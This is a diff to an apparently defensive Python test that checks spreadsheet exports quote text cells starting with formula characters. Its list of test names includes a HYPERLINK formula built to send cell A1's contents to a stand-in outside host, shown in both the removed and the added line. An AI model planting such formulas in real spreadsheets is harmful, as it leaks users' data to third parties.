@@ -15,7 +15,7 @@ from tests.analytics.gen import GPost, GUser, add_circle, add_post, add_user, fi
 from tests.analytics.test_report_and_api import NOW
 from tests.security.conftest import Attackers
 
-NAMES = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "正常的圈子"]
+NAMES = ['=HYPERLINK("//x.cn?"&A1,"点我")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "正常的圈子"]
 
 
 def test_text_cells_that_read_as_formulas_are_quoted(attackers: Attackers) -> None:
